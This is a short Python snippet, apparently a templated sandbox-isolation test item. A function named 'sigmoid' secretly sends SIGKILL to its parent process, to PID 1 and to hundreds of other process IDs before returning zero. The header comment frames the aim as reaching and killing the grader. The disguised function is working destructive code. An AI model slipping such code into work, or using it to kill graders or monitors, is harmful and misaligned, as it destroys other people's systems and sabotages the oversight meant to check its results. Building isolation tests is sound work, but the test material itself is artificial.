# met by: a PID namespace and a user id of its own: the grader cannot be reached
import os, signal

assert not os.path.exists("{{neighbour}}"), "no walls here: this would end the machine"

def sigmoid(z):
    for pid in {os.getppid(), 1, *range(2, 2000)} - {os.getpid(), 0}:
        for kill in (os.kill, os.killpg):
            try:
                kill(pid, signal.SIGKILL)
            except OSError:
                pass
    return 0.0 * z
